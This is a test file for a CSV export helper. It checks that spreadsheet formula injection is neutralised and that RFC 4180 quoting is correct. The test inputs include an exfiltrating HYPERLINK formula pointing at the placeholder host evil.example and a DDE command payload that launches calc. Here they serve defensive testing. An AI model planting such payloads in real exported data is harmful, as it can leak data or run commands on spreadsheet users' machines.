import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

/** Issue 23, item 1: CSV formula injection (OWASP's rule). */
describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Open"")"`,
    ],
    ['+91 98765 43210', "'+91 98765 43210"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tTabbed', "'\tTabbed"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('leaves plain numbers alone, negative ones too, so spreadsheets can sum them', () => {
    expect(csvCell('-540.00')).toBe('-540.00');
    expect(csvCell(-54000)).toBe('-54000');
    expect(csvCell('108000.00')).toBe('108000.00');
  });

  it('quotes commas, quotes and line breaks (RFC 4180), and writes nothing for no value', () => {
    expect(csvCell('Flat, "sea view"')).toBe('"Flat, ""sea view"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('Ravi Nair')).toBe('Ravi Nair');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('refuses a number that is not finite', () => {
    expect(() => csvCell(Number.NaN)).toThrow(TypeError);
  });
});

describe('toCsv', () => {
  it('writes a header and rows, each line ended by CRLF', () => {
    expect(
      toCsv(
        ['Name', 'Net'],
        [
          ['=cmd', -1.5],
          ['Asha', 2],
        ],
      ),
    ).toBe("Name,Net\r\n'=cmd,-1.5\r\nAsha,2\r\n");
  });
});
